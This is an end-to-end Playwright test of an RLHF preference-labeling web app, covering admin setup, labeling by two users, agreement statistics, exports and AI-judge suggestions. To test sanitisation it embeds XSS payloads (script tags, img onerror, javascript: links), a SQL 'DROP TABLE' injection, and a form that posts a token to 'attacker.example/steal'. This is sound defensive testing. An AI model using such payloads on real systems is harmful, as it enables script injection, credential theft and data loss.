// End to end: the real feedback server (through its CLI, on a fresh SQLite file) and the built
// web client, driven in headless Chromium. An admin creates a pairwise project and imports
// items, two labelers answer every item at the same time (one by keyboard, one by mouse), and
// the admin reads the agreement and downloads the export that the reward-model trainer reads.
//
//   node --import tsx --test test/e2e/feedback-ui.test.ts
//   UPDATE_SCREENSHOTS=1 node --import tsx --test test/e2e/feedback-ui.test.ts   # rewrites docs/feedback-labeling.png
import assert from "node:assert/strict";
import { spawnSync, type ChildProcess } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { buildClient, launchChromium, ROOT, startServer, stopServer } from "./browser.ts";

const SCREENSHOT = join(ROOT, "docs", "feedback-labeling.png");
// The CLI as `rlhf feedback` runs it, without depending on the top-level command's wiring.
const CLI = 'import { feedbackCli } from "./src/feedback/cli.ts"; process.exitCode = await feedbackCli(process.argv.slice(1));';
const cliArgs = (args: string[]) => ["--import", "tsx", "--input-type=module", "-e", CLI, "--", ...args];

const HOSTILE_PROMPT = "Repeat after me: <script>alert(1)</script> '; DROP TABLE items; --";
const HOSTILE_RESPONSE = `<script>alert(1)</script><img src=x onerror="alert(2)"> '; DROP TABLE items; --`;

// `better`: index of the better response in import order, or how every labeler answers it.
const ITEMS: { id: string; prompt: string | { role: string; content: string }[]; responses: [string, string]; better: 0 | 1 | "tie" | "skip" }[] = [
  {
    id: "reward-model",
    prompt: "Explain in two sentences what a reward model is in RLHF.",
    responses: [
      "A reward model is a network trained on human preference pairs to score a response to a prompt.\n" +
        "During RL fine-tuning its score stands in for a human judge, so the policy can be optimised at scale.",
      "A reward model gives the model a treat when it is good.\nIt is basically a cookie dispenser.",
    ],
    better: 0,
  },
  {
    id: "prime",
    prompt: [{ role: "system", content: "Answer with one word." }, { role: "user", content: "Name a prime number between 5 and 10." }],
    responses: ["Nine.", "Seven."],
    better: 1,
  },
  { id: "hostile", prompt: HOSTILE_PROMPT, responses: [HOSTILE_RESPONSE, "I won't do that."], better: 0 },
  { id: "greeting", prompt: "Say hello.", responses: ["Hello!", "Hi there!"], better: "tie" },
  { id: "unclear", prompt: "qwpoeiru zxmcnv", responses: ["?", "Could you rephrase?"], better: "skip" },
];
const jsonl = (items: typeof ITEMS) => items.map(({ better: _, ...item }) => JSON.stringify(item)).join("\n") + "\n";

let dir = "";
let server: ChildProcess | undefined;
let browser: Browser | undefined;
let baseUrl = "";
const tokens: Record<string, string> = {};

function cli(args: string[]): string {
  const r = spawnSync(process.execPath, cliArgs(args), { cwd: ROOT, encoding: "utf8", timeout: 30_000 });
  assert.equal(r.status, 0, `rlhf feedback ${args.join(" ")} failed:\n${r.stderr}`);
  return r.stdout.trim();
}

before(async () => {
  buildClient("src/feedback/client/vite.config.ts");
  dir = mkdtempSync(join(tmpdir(), "feedback-e2e-"));
  const db = join(dir, "feedback.sqlite");
  for (const [name, role] of [["ada", "admin"], ["lin", "labeler"], ["kim", "labeler"]] as const) {
    tokens[name] = cli(["user", "add", name, "--role", role, "--db", db]);
    assert.match(tokens[name]!, /^\S{20,}$/, `user add ${name} should print only the token on stdout`);
  }
  const started = await startServer(cliArgs(["serve", "--db", db, "--port", "0"]));
  server = started.child;
  baseUrl = started.url;
  browser = await launchChromium();
});

after(async () => {
  await browser?.close();
  await stopServer(server);
  if (dir) rmSync(dir, { recursive: true, force: true });
});

interface Session { context: BrowserContext; page: Page; dialogs: string[] }

async function signIn(name: string): Promise<Session> {
  const context = await browser!.newContext({ viewport: { width: 1280, height: 900 }, acceptDownloads: true });
  context.setDefaultTimeout(10_000); // fail in seconds, not after the 30 s default, when the UI is stuck
  const page = await context.newPage();
  const dialogs: string[] = [];
  page.on("dialog", (d) => { dialogs.push(d.message()); void d.dismiss(); });
  page.on("pageerror", (e) => dialogs.push(`page error: ${e.message}`));
  await page.goto(baseUrl);
  await page.getByLabel("API token").fill(tokens[name]!);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByText(`${name} (`).waitFor();
  return { context, page, dialogs };
}

const itemShown = async (page: Page) => {
  const texts = await page.locator(".response .text").allTextContents();
  const item = ITEMS.find((it) => it.responses.every((r) => texts.includes(r)));
  assert.ok(item, `the page shows responses of no imported item: ${JSON.stringify(texts)}`);
  return { item, texts };
};

// Which on-screen position (A = 0, B = 1) holds the better response: the server shuffles per labeler.
const betterPosition = (item: (typeof ITEMS)[number], texts: string[]) => texts.indexOf(item.responses[item.better as 0 | 1]);

async function checkHostileItemIsText(page: Page) {
  // textContent keeps the tags only if they were inserted as text; innerHTML would have parsed them.
  assert.ok((await page.locator(".prompt .text").textContent())!.includes(HOSTILE_PROMPT));
  assert.ok((await page.locator(".response .text").allTextContents()).includes(HOSTILE_RESPONSE));
  assert.equal(await page.locator(".item script, .item img").count(), 0, "model text must not create elements");
}

async function answerByKeyboard(s: Session) {
  const { page } = s;
  for (let n = 0; n < ITEMS.length; n++) {
    await page.getByText(`Answered ${n} ·`).waitFor();
    const { item, texts } = await itemShown(page);
    if (item.id === "hostile") await checkHostileItemIsText(page);
    if (item.better === "skip") {
      await page.keyboard.press("s");
    } else {
      await page.keyboard.press(item.better === "tie" ? "t" : String(betterPosition(item, texts) + 1));
      if (n === 0) {
        // Letters typed into the rationale must not act as shortcuts (s = skip, t = tie, 1/2 = A/B).
        await page.getByLabel("Rationale (optional)").fill("");
        await page.getByLabel("Rationale (optional)").pressSequentially("states the training signal; 1st sentence is exact, not 2nd");
        if (process.env.UPDATE_SCREENSHOTS === "1") {
          mkdirSync(join(ROOT, "docs"), { recursive: true });
          await page.screenshot({ path: SCREENSHOT, fullPage: true });
        }
        await page.keyboard.press("Control+Enter");
      } else {
        await page.keyboard.press("Enter");
      }
    }
  }
  await page.getByRole("heading", { name: "All done" }).waitFor();
  await page.getByText(`Answered ${ITEMS.length} · 0 left`).waitFor();
}

async function answerByMouse(s: Session) {
  const { page } = s;
  // The first answer reaches the server but its reply is lost: the client must retry with the same
  // request_id, and the server must count it once.
  const attempts: { requestId: string; status: number | null }[] = [];
  await page.route("**/api/items/*/answers", async (route) => {
    const requestId = (route.request().postDataJSON() as { request_id: string }).request_id;
    if (attempts.length === 0) {
      const response = await route.fetch();
      attempts.push({ requestId, status: response.status() });
      await route.abort("connectionreset");
    } else {
      attempts.push({ requestId, status: null });
      await route.continue();
    }
  });
  for (let n = 0; n < ITEMS.length; n++) {
    await page.getByText(`Answered ${n} ·`).waitFor();
    const { item, texts } = await itemShown(page);
    if (item.id === "hostile") await checkHostileItemIsText(page);
    if (item.better === "skip") {
      await page.getByRole("button", { name: /^Skip/ }).click();
      continue;
    }
    const choice = item.better === "tie" ? /^Tie/ : betterPosition(item, texts) === 0 ? /^A is better/ : /^B is better/;
    await page.getByRole("button", { name: choice }).click();
    assert.equal(await page.getByRole("button", { name: choice }).getAttribute("aria-pressed"), "true");
    await page.getByRole("button", { name: /^Submit/ }).click();
  }
  await page.getByRole("heading", { name: "All done" }).waitFor();
  await page.unroute("**/api/items/*/answers");
  assert.equal(attempts[0]!.status, 201, "the first attempt was stored");
  assert.equal(attempts[1]!.requestId, attempts[0]!.requestId, "the retry carries the same request_id");
  assert.equal(new Set(attempts.map((a) => a.requestId)).size, ITEMS.length, "every other submit has a fresh request_id");
}

test("admin sets up a project, two labelers answer, admin reads agreement and exports", { timeout: 90_000 }, async (t) => {
  const admin = await signIn("ada");
  const { page } = admin;
  let projectUrl = "";

  await t.test("admin creates a pairwise project and imports items by paste and by upload", async () => {
    await page.getByRole("heading", { name: "New project" }).waitFor();
    await page.getByLabel("Name").fill("helpfulness");
    await page.getByLabel("Task").selectOption("pairwise");
    await page.getByLabel("Labelers per item").fill("2");
    await page.getByLabel("Guidelines (markdown)").fill(
      "Pick the **more helpful** response.\n\n- Use *tie* when both are equally good\n- Skip when the prompt is gibberish\n\n" +
      "See the [style guide](https://example.com/style) and <a href=\"javascript:alert('href')\" onclick=\"alert('click')\">worked examples</a>.\n\n" +
      "<form action=\"https://attacker.example/steal\" method=\"post\"><input name=\"token\"><button>Send</button></form>" +
      "<style>.answer-buttons, button { display: none }</style><div style=\"position: fixed; inset: 0; background: white\">overlay</div>");
    await page.getByRole("button", { name: "Create project" }).click();
    await page.getByRole("heading", { name: "helpfulness" }).waitFor();
    projectUrl = page.url();

    await page.getByLabel("Paste JSON lines").fill(jsonl(ITEMS.slice(0, 3)));
    await page.getByRole("button", { name: "Import items" }).click();
    await page.getByText("Imported 3 items.").waitFor();
    await page.getByLabel("…or upload a .jsonl file").setInputFiles({ name: "more.jsonl", mimeType: "application/x-ndjson", buffer: Buffer.from(jsonl(ITEMS.slice(3))) });
    await page.getByRole("button", { name: "Import items" }).click();
    await page.getByText("Imported 2 items.").waitFor();
    await page.getByText("0 / 5").waitFor(); // stats refreshed after the import

    // A malformed line is refused with its line number, and nothing is imported.
    await page.getByLabel("Paste JSON lines").fill(`${jsonl(ITEMS.slice(0, 1))}{"prompt": "only one response", "responses": ["x"]}\n`);
    await page.getByRole("button", { name: "Import items" }).click();
    await page.getByText(/Nothing imported: line 2:/).waitFor();
  });

  const [lin, kim] = await Promise.all([signIn("lin"), signIn("kim")]);

  await t.test("labelers see sanitized guidelines and answer every item, by keyboard and by mouse", async () => {
    await lin.page.getByRole("link", { name: "Start labeling" }).click();
    await kim.page.getByRole("link", { name: "Start labeling" }).click();
    const guidelines = lin.page.locator(".guidelines");
    await guidelines.getByText("more helpful").waitFor();
    assert.equal(await guidelines.locator("strong").textContent(), "more helpful");
    await guidelines.getByText("worked examples").click();
    assert.equal(await guidelines.locator("[onclick], [href^='javascript']").count(), 0, "DOMPurify strips handlers and javascript: links");
    assert.equal(await guidelines.locator(".markdown").locator("form, input, button, style, [style], [class]").count(), 0, "no forms, styles or positioned overlays survive");
    // The CSP allows no inline styles, so the UI itself must use none (classes and style.css only).
    assert.equal(await lin.page.locator("[style]").count(), 0, "no element has a style attribute");
    await lin.page.getByText("Keyboard:").waitFor();
    assert.match((await lin.page.locator(".shortcuts").textContent())!, /1 A is better · 2 B is better · t tie · s skip · Enter submit/);

    await Promise.all([answerByKeyboard(lin), answerByMouse(kim)]);
    assert.deepEqual([...lin.dialogs, ...kim.dialogs], [], "no dialog opened and no script error happened");
  });

  await t.test("admin sees progress and agreement", async () => {
    assert.equal(page.url(), projectUrl);
    await page.getByRole("button", { name: "Refresh" }).click();
    const stats = page.locator(".stats");
    await stats.getByText("4 / 5").waitFor();
    const numbers = Object.fromEntries(await stats.locator("dl dt").evaluateAll((dts) =>
      dts.map((dt) => [dt.textContent, dt.nextElementSibling!.textContent])));
    // 4 items got 2 non-skip answers; the gibberish item was skipped by both.
    assert.equal(numbers["Items complete"], "4 / 5 (2 labelers each)");
    assert.equal(numbers["Answers"], "10 (2 skipped)");
    // Both labelers agree on every item, and the items cover A, B and tie: Fleiss' kappa is exactly 1.
    assert.equal(numbers["Agreement: Fleiss' κ"], "1.00 (over 4 items)");
    const rows = await stats.locator("tbody tr").evaluateAll((trs) => trs.map((tr) => Array.from(tr.children, (c) => c.textContent)));
    assert.deepEqual(rows.map((r) => r.slice(0, 4)), [
      ["kim", "5", "1", "100% (4 pairs)"],
      ["lin", "5", "1", "100% (4 pairs)"],
    ]);
    await page.getByRole("link", { name: "← All projects" }).click();
    await page.getByText("4 / 5 complete").waitFor();
  });

  await t.test("admin downloads the preference export", async () => {
    await page.goto(projectUrl);
    await page.getByRole("form", { name: "Export" }).getByLabel("Format").selectOption("preference");
    await page.getByLabel("Answers").selectOption("all");
    const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Download export" }).click()]);
    assert.equal(download.suggestedFilename(), "helpfulness-preference-all.jsonl");
    const file = join(dir, "export.jsonl");
    await download.saveAs(file);
    const lines = readFileSync(file, "utf8").trim().split("\n").map((l) => JSON.parse(l) as Record<string, unknown>);
    // Three decided items times two labelers; the tie and the skips give no preference pair.
    assert.equal(lines.length, 6);
    for (const line of lines) {
      for (const key of ["prompt", "chosen", "rejected"]) assert.ok(key in line, `export line lacks ${key}: ${JSON.stringify(line)}`);
      const item = ITEMS.find((it) => it.id === line.external_id)!;
      const text = (x: unknown) => (typeof x === "string" ? x : (x as { content: string }[])[0]!.content);
      assert.deepEqual(line.prompt, item.prompt);
      assert.equal(text(line.chosen), item.responses[item.better as 0 | 1], `${item.id}: chosen`);
      assert.equal(text(line.rejected), item.responses[1 - (item.better as 0 | 1)], `${item.id}: rejected`);
    }
    assert.deepEqual(admin.dialogs, []);
  });
});

test("a ranking with a tie and 1-7 ratings reach the export as entered", { timeout: 60_000 }, async () => {
  const asAdmin = async <T>(method: string, path: string, body?: unknown): Promise<T> => {
    const res = await fetch(baseUrl + path, {
      method, headers: { authorization: `Bearer ${tokens.ada}`, "content-type": "application/json" }, body: body === undefined ? undefined : JSON.stringify(body),
    });
    assert.ok(res.ok, `${method} ${path}: ${res.status} ${await res.clone().text()}`);
    return (path.includes("/export") ? res.text() : res.json()) as Promise<T>;
  };
  const setUp = async (task: string, responses: string[]) => {
    const { id } = await asAdmin<{ id: string }>("POST", "/api/projects", { name: `${task} check`, task, overlap: 1 });
    await asAdmin("POST", `/api/projects/${id}/items`, [{ prompt: `Judge these ${task}s.`, responses }]);
    return id;
  };
  const exported = async (id: string) => JSON.parse(await asAdmin<string>("GET", `/api/projects/${id}/export?format=ranking`)) as Record<string, unknown>;
  const rankingId = await setUp("ranking", ["best", "middle one", "middle two", "worst"]);
  const ratingId = await setUp("rating", ["fine answer", "poor answer"]);
  const { page, dialogs } = await signIn("kim");

  await page.goto(`${baseUrl}/#/label/${rankingId}`);
  await page.getByText("Answered 0 ·").waitFor();
  // Under load the item can render after the progress line; the key handler needs it in place.
  await page.locator(".response").nth(3).waitFor();
  await page.keyboard.press("Enter");
  await page.getByText("Give every response a rank").waitFor(); // an incomplete ranking is not sent
  const ranks: Record<string, string> = { best: "1", "middle one": "2", "middle two": "2", worst: "4" };
  for (const card of await page.locator(".response").all()) {
    await card.getByLabel(/^Rank of/).selectOption(ranks[(await card.locator(".text").textContent())!]!);
  }
  await page.keyboard.press("Enter");
  await page.getByRole("heading", { name: "All done" }).waitFor();
  const ranked = await exported(rankingId);
  assert.deepEqual([ranked.ranking, ranked.ties], [[0, 1, 2, 3], [[1, 2]]]);

  await page.goto(`${baseUrl}/#/label/${ratingId}`);
  await page.getByText("Answered 0 ·").waitFor();
  // As above: the cards can arrive after the progress line, and all() does not wait for them.
  await page.locator(".response").nth(1).waitFor();
  const scores: Record<string, string> = { "fine answer": "6", "poor answer": "2" };
  for (const card of await page.locator(".response").all()) {
    await card.getByLabel(scores[(await card.locator(".text").textContent())!]!, { exact: true }).check();
  }
  await page.getByRole("button", { name: /^Submit/ }).click();
  await page.getByRole("heading", { name: "All done" }).waitFor();
  assert.deepEqual((await exported(ratingId)).ratings, [6, 2]);
  assert.deepEqual(dialogs, []);
});

test("AI suggestions: hidden until the admin switches them on, then shown as text; kappa against people in the stats", { timeout: 60_000 }, async () => {
  const admin = await signIn("ada");
  await admin.page.getByRole("heading", { name: "New project" }).waitFor();
  await admin.page.getByLabel("Name").fill("with suggestions");
  await admin.page.getByLabel("Labelers per item").fill("1");
  assert.equal(await admin.page.getByLabel("Show AI suggestions to labelers").isChecked(), false, "off by default");
  await admin.page.getByRole("button", { name: "Create project" }).click();
  await admin.page.getByRole("heading", { name: "with suggestions" }).waitFor();
  const projectId = decodeURIComponent(/#\/admin\/([^/?#]+)/.exec(admin.page.url())![1]!);
  // The judge prefers the first response of each item; the labeler will agree on two of three.
  const items = [
    { id: "s1", prompt: "2 + 2?", responses: ["4", "5"], kimPicks: 0 },
    { id: "s2", prompt: "Capital of France?", responses: ["Paris", "Lyon"], kimPicks: 0 },
    { id: "s3", prompt: "Largest planet?", responses: ["Saturn", "Jupiter"], kimPicks: 1 },
  ];
  const res = await fetch(`${baseUrl}/api/projects/${projectId}/items`, {
    method: "POST", headers: { authorization: `Bearer ${tokens.ada}`, "content-type": "application/json" },
    body: JSON.stringify(items.map(({ kimPicks: _, ...it }) => ({
      ...it, policy: "round-1", suggestion: { ranking: [0, 1], confidence: 0.9, judge: "e2e-judge", rationale: HOSTILE_RESPONSE } }))),
  });
  assert.equal(res.status, 201, await res.text());

  const kim = await signIn("kim");
  await kim.page.goto(`${baseUrl}/#/label/${projectId}`);
  await kim.page.locator(".response").nth(1).waitFor();
  assert.equal(await kim.page.locator("aside.suggestion").count(), 0, "no suggestion while the project hides them");

  await admin.page.getByLabel("Show AI suggestions to labelers").check();
  await admin.page.getByText("Labelers now see suggestions.").waitFor();

  for (let n = 0; n < items.length; n++) {
    await kim.page.reload();
    await kim.page.getByText(`Answered ${n} ·`).waitFor();
    const aside = kim.page.locator("aside.suggestion");
    await aside.waitFor();
    const texts = await kim.page.locator(".response .text").allTextContents();
    const item = items.find((it) => it.responses.every((r) => texts.includes(r)))!;
    const suggested = "AB"[texts.indexOf(item.responses[0]!)];
    assert.match((await aside.locator("p").textContent())!, new RegExp(`^AI suggestion: Response ${suggested} is better \\(confidence 90%\\) · e2e-judge$`));
    await aside.getByText("The judge's reasoning").click();
    assert.equal(await aside.locator(".text").textContent(), HOSTILE_RESPONSE, "the rationale is shown verbatim, as text");
    assert.equal(await aside.locator("script, img").count(), 0, "model text must not create elements");
    await kim.page.getByRole("button", { name: texts.indexOf(item.responses[item.kimPicks]!) === 0 ? /^A is better/ : /^B is better/ }).click();
    await kim.page.getByRole("button", { name: /^Submit/ }).click();
  }
  await kim.page.getByRole("heading", { name: "All done" }).waitFor();

  await admin.page.getByRole("button", { name: "Refresh" }).click();
  const stats = admin.page.locator(".stats");
  await stats.getByText("3 / 3").waitFor();
  const numbers = Object.fromEntries(await stats.locator("dl dt").evaluateAll((dts) => dts.map((dt) => [dt.textContent, dt.nextElementSibling!.textContent])));
  // (people, judge): first/first twice, second/first once; both orientations: [[2,1],[1,2]], kappa = (2/3 - 1/2) / (1/2) = 1/3.
  assert.equal(numbers["AI suggestions vs people: Cohen's κ"], "0.33 (agree on 67% of 3 pairs over 3 items; e2e-judge)");
  const policies = await stats.locator("table", { hasText: "Items by policy" }).locator("tbody tr")
    .evaluateAll((trs) => trs.map((tr) => Array.from(tr.children, (c) => c.textContent)));
  assert.deepEqual(policies, [["round-1", "3", "3", "3"]]);
  await admin.page.reload();
  assert.equal(await admin.page.getByLabel("Show AI suggestions to labelers").isChecked(), true, "the setting was saved");
  assert.deepEqual([...admin.dialogs, ...kim.dialogs], []);
});
